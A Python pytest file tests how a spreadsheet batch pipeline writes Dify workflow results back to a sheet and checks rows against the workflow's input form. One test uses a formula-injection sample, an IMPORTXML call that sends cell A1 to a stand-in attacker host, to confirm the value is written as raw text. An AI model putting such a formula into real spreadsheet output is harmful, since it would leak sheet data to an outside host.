"""Results back in the sheet, and rows checked against the workflow's input form: the loader
and the worker over real HTTP, the real google-api-python-client writing to the Sheets
stand-in (values.batchUpdate), the form read from the Dify stand-in, Datastore in the emulator."""

from __future__ import annotations

import json
from collections.abc import Iterator

import httpx
import pytest

from local import dify_standin as dify
from local.cloud_tasks_standin import CloudTasksStandIn
from local.sheets_standin import SheetsStandIn
from shared.core.model import KIND
from tests.conftest import PROJECT
from tests.support.servers import serve_function

pytestmark = pytest.mark.emulator
KEY = "app-write-back-key"
TAB = "Sheet1"


@pytest.fixture
def sheets() -> Iterator[SheetsStandIn]:
    server = SheetsStandIn({"book": {TAB: [["id", "question"]]}}).start()
    yield server
    server.stop()


@pytest.fixture
def llm() -> Iterator[dify.DifyStandIn]:
    server = dify.DifyStandIn(api_key=KEY).start()
    yield server
    server.stop()


@pytest.fixture
def stack(monkeypatch, namespace, sheets, llm) -> Iterator[dict[str, str]]:
    tasks = CloudTasksStandIn().start()
    env = {
        "GOOGLE_CLOUD_PROJECT": PROJECT,
        "DATASTORE_NAMESPACE": namespace,
        "SPREADSHEET_ID": "book",
        "SHEET_NAME": TAB,
        "SHEETS_API_ENDPOINT": sheets.endpoint,
        "TASKS_LOCATION": "asia-northeast3",
        "TASKS_QUEUE": "dify",
        "WORKER_URL": "http://127.0.0.1:9/",
        "CLOUD_TASKS_EMULATOR_HOST": tasks.host,
        "DIFY_API_ENDPOINT": llm.url,
        "DIFY_API_KEY": KEY,
        "WRITE_BACK": "true",
    }
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    try:
        with (
            serve_function("loader/main.py", "load_sheet") as loader,
            serve_function("worker/main.py", "process_row") as worker,
        ):
            yield {"loader": loader, "worker": worker}
    finally:
        tasks.stop()


def grid(sheets):
    return sheets.spreadsheets["book"][TAB]


def set_rows(sheets, header, *rows):
    sheets.spreadsheets["book"][TAB] = [list(header), *[list(r) for r in rows]]


def load(stack, **options):
    response = httpx.post(stack["loader"], json=options, timeout=120)
    assert response.status_code in (200, 503), response.text
    return response.json()


def run_rows(stack, *row_ids):
    for row_id in row_ids:
        httpx.post(stack["worker"], json={"id": row_id}, timeout=60)


def column_or_none(sheets, header):
    return column(sheets, header) if header in grid(sheets)[0] else None


def column(sheets, header):
    rows = grid(sheets)
    index = rows[0].index(header)
    return {r[0]: (r[index] if index < len(r) else "") for r in rows[1:]}


# -- write-back ------------------------------------------------------------------------------


def test_results_land_beside_their_inputs_under_mapped_headers(monkeypatch, stack, sheets, llm):
    monkeypatch.setenv("RESULT_COLUMNS", "answer->Answer, score->점수")
    set_rows(sheets, ["id", "question"], ["q1", "고양이?"], ["q2", "dogs?"])
    load(stack)
    llm.script(dify.finish({"answer": "상자 🐱", "score": 9}), dify.finish({"answer": "yes"}))
    run_rows(stack, "q1", "q2")
    summary = load(stack, write_back_only=True)
    assert summary["write_back"]["rows_written"] == 2
    assert grid(sheets)[0] == ["id", "question", "Answer", "점수", "dify_status", "dify_error"]
    assert grid(sheets)[1] == ["q1", "고양이?", "상자 🐱", 9, "SUCCESS", ""]
    assert grid(sheets)[2][:2] == ["q2", "dogs?"]  # input cells never written
    assert column(sheets, "점수")["q2"] == ""
    assert all(u["valueInputOption"] == "RAW" for u in sheets.updates)


def test_result_columns_are_not_inputs_so_nothing_runs_again(monkeypatch, stack, sheets, llm):
    set_rows(sheets, ["id", "question"], ["q1", "why?"])
    load(stack)
    run_rows(stack, "q1")
    load(stack)  # writes the result: adds columns `text`, `inputs`, dify_status, dify_error
    assert "text" in grid(sheets)[0]
    again = load(stack)
    assert again["tasks_created"] == 0
    assert again["skipped"] == {"SUCCESS": 1}
    assert again["write_back"]["rows_written"] == 0  # and nothing is written twice
    assert len(llm.run_calls()) == 1


def test_rows_sorted_or_inserted_meanwhile_get_their_own_results(stack, sheets, llm):
    set_rows(sheets, ["id", "question"], ["a", "first"], ["b", "second"])
    load(stack)
    llm.script(dify.finish({"text": "for a"}), dify.finish({"text": "for b"}))
    run_rows(stack, "a", "b")
    # The owners insert a row on top and sort the rest before the next run.
    set_rows(sheets, ["id", "question"], ["new", "inserted"], ["b", "second"], ["a", "first"])
    load(stack)
    texts = column(sheets, "text")
    assert (texts["a"], texts["b"], texts["new"]) == ("for a", "for b", "")


def test_rate_limits_while_writing_are_retried(stack, sheets, llm):
    set_rows(sheets, ["id", "question"], ["q1", "x"])
    load(stack)
    run_rows(stack, "q1")
    sheets.write_faults.extend([429, 429])
    summary = load(stack, write_back_only=True)
    assert summary["write_back"]["rows_written"] == 1
    assert column(sheets, "dify_status")["q1"] == "SUCCESS"


def test_a_failed_write_is_retried_next_run_and_written_once(stack, sheets, llm):
    set_rows(sheets, ["id", "question"], ["q1", "x"])
    load(stack)
    run_rows(stack, "q1")
    sheets.write_faults.extend([500] * 5)  # past the writer's retries
    failed = load(stack, write_back_only=True)
    assert failed["write_back"]["error"].startswith("Sheets API answered 500")
    assert column_or_none(sheets, "dify_status") is None  # the headers' write was refused
    assert failed["write_back"]["left_for_next_run"] == 1
    sheets.write_faults.clear()
    later = load(stack, write_back_only=True)
    assert later["write_back"]["rows_written"] == 1
    assert load(stack, write_back_only=True)["write_back"]["rows_written"] == 0
    # The first run stopped at its refused header write; the row's cells went out once.
    writes = [d for u in sheets.updates for d in u["data"] if "SUCCESS" in d["values"][0]]
    assert len(writes) == 1


def test_long_and_formula_like_outputs_are_written_as_text(
    monkeypatch, stack, sheets, llm, ds_client
):
    monkeypatch.setenv("RESULT_COLUMNS", "answer->Answer")
    set_rows(sheets, ["id", "question"], ["long", "x"], ["formula", "y"])
    load(stack)
    formula = '=IMPORTXML("https://attacker.example/?q="&A1, "//a")'
    llm.script(dify.finish({"answer": "가" * 60_000}), dify.finish({"answer": formula}))
    run_rows(stack, "long", "formula")
    load(stack, write_back_only=True)
    answers = column(sheets, "Answer")
    assert len(answers["long"]) == 50_000
    assert answers["long"].endswith("in `dify-batch export`]")
    assert answers["formula"] == formula
    stored = json.loads(ds_client.get(ds_client.key(KIND, "long"))["result"])
    assert len(stored["answer"]) == 60_000  # the whole output stays in Datastore


def test_a_failed_row_shows_its_status_and_reason(stack, sheets, llm):
    set_rows(sheets, ["id", "question"], ["bad", "x"])
    load(stack)
    llm.script(dify.http_error(400, "invalid_param", "question is too vague"))
    run_rows(stack, "bad")
    load(stack, write_back_only=True)
    assert column(sheets, "dify_status")["bad"] == "FAILED"
    assert "question is too vague" in column(sheets, "dify_error")["bad"]


# -- the input form check --------------------------------------------------------------------

FORM = [
    {"text-input": {"label": "Q", "variable": "question", "required": True, "max_length": 20}},
    {"select": {"label": "G", "variable": "grade", "required": False, "options": ["1", "2"]}},
    {"number": {"label": "N", "variable": "count", "required": False}},
]


def test_a_required_variable_without_a_column_stops_the_run_before_anything(
    stack, sheets, llm, ds_client
):
    llm.form = FORM
    set_rows(sheets, ["id", "질문"], ["q1", "x"])
    response = httpx.post(stack["loader"], timeout=60)
    assert response.status_code == 422
    assert "'question'" in response.json()["error"]
    assert "Nothing was run or written" in response.json()["error"]
    assert list(ds_client.query(kind=KIND).fetch()) == []


def test_each_rule_fails_its_row_without_a_dify_call(stack, sheets, llm, ds_client):
    llm.form = FORM
    set_rows(
        sheets,
        ["id", "question", "grade", "count", "note"],
        ["ok", "fine", "1", "3", ""],
        ["empty", "", "1", "3", ""],
        ["select", "fine", "7", "3", ""],
        ["long", "x" * 21, "1", "3", ""],
        ["nan", "fine", "1", "three", ""],
    )
    summary = load(stack)
    assert summary["tasks_created"] == 1
    assert summary["input_check"] == {"unknown_columns": ["id", "note"], "refused": 4}
    errors = {
        e.key.name: e["error"]
        for e in ds_client.query(kind=KIND).fetch()
        if e["status"] == "FAILED"
    }
    assert "'question' is required" in errors["empty"]
    assert "'grade' must be one of 1, 2" in errors["select"]
    assert "at most 20 characters" in errors["long"]
    assert "'count' must be a number" in errors["nan"]
    assert llm.run_calls() == []
    load(stack, write_back_only=True)
    assert "'question' is required" in column(sheets, "dify_error")["empty"]


def test_a_fixed_row_runs_by_itself(stack, sheets, llm, ds_client):
    llm.form = FORM
    set_rows(sheets, ["id", "question"], ["r", ""])
    load(stack)
    assert ds_client.get(ds_client.key(KIND, "r"))["status"] == "FAILED"
    set_rows(sheets, ["id", "question"], ["r", "now filled"])
    summary = load(stack)
    assert summary["re_enqueued"] == {"inputs_fixed": 1}
    row = ds_client.get(ds_client.key(KIND, "r"))
    assert (row["status"], row["error"], row["attempts"]) == ("PENDING", None, 0)
    assert json.loads(row["inputs"])["question"] == "now filled"


def test_file_cells_are_sent_as_remote_url_file_objects(stack, sheets, llm, ds_client):
    llm.form = [
        {
            "file": {
                "label": "P",
                "variable": "photo",
                "required": True,
                "allowed_file_types": ["image"],
            }
        },
        {
            "file-list": {
                "label": "D",
                "variable": "docs",
                "required": False,
                "allowed_file_types": [],
            }
        },
    ]
    set_rows(
        sheets,
        ["id", "photo", "docs"],
        [
            "ok",
            "https://example.com/cat.png",
            "https://example.com/a.pdf\nhttps://example.com/b.mp3",
        ],
        ["bad", "cat.png on my desktop", ""],
    )
    load(stack)
    inputs = json.loads(ds_client.get(ds_client.key(KIND, "ok"))["inputs"])
    assert inputs["photo"] == {
        "type": "image",
        "transfer_method": "remote_url",
        "url": "https://example.com/cat.png",
    }
    assert [d["type"] for d in inputs["docs"]] == ["document", "audio"]
    bad = ds_client.get(ds_client.key(KIND, "bad"))
    assert bad["status"] == "FAILED"
    assert "http(s) URL" in bad["error"]
